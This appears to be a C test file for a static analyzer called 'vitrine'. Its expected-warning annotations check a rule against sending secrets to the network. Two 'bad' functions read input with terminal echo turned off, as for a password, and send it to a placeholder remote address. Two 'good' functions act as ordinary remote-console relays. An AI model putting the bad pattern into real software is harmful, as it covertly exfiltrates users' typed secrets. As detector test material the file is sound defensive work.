/* A terminal is set to hand on each key: for a line that nobody shall see, or for a session. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

static struct termios before;

static void set_raw(void) {
    struct termios raw;
    tcgetattr(STDIN_FILENO, &before);
    raw = before;
    raw.c_lflag &= ~(tcflag_t)(ECHO | ICANON);
    tcsetattr(STDIN_FILENO, TCSANOW, &raw);
}

static void set_back(void) {
    tcsetattr(STDIN_FILENO, TCSANOW, &before);
}

static int dial(const char *address) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(623)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    connect(fd, (struct sockaddr *)&peer, sizeof peer);
    return fd;
}

void bad_line(void) {
    char line[64], key;
    size_t size = 0;
    int fd = dial("203.0.113.60");
    set_raw();
    while (size < sizeof line && read(STDIN_FILENO, &key, 1) == 1 && key != '\n')
        line[size++] = key;
    set_back();
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(fd, line, size, 0);
}

/* Three tries, each of them unseen. */
int bad_tries(int (*fits)(const char *line)) {
    char line[64];
    int fd = dial("203.0.113.60");
    for (int i = 0; i < 3; i++) {
        set_raw();
        ssize_t size = read(STDIN_FILENO, line, sizeof line - 1);
        set_back();
        line[size > 0 ? size : 0] = 0;
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(fd, line, strlen(line), 0);
        if (fits(line))
            return 1;
    }
    return 0;
}

static int hand_on(int fd, const char *keys, size_t size) {
    return send(fd, keys, size, 0) < 0;
}

/* The console of another machine. */
void good_console(void) {
    char keys[255];
    int fd = dial("203.0.113.60"), ends = 0;
    set_raw();
    while (!ends) {
        fd_set set;
        FD_ZERO(&set);
        FD_SET(STDIN_FILENO, &set);
        FD_SET(fd, &set);
        select(fd + 1, &set, NULL, NULL, NULL);
        if (FD_ISSET(STDIN_FILENO, &set)) {
            ssize_t size = read(STDIN_FILENO, keys, sizeof keys);
            ends = size <= 0 || hand_on(fd, keys, (size_t)size);
        }
        if (FD_ISSET(fd, &set)) {
            ssize_t size = recv(fd, keys, sizeof keys, 0);
            ends |= size <= 0 || write(STDOUT_FILENO, keys, (size_t)size) < 0;
        }
    }
    set_back();
}

/* Key by key, until one that ends it. */
void good_keys(void) {
    char key;
    int fd = dial("203.0.113.60");
    set_raw();
    while (read(STDIN_FILENO, &key, 1) == 1 && key != 0x1d)
        send(fd, &key, 1, 0);
    set_back();
}
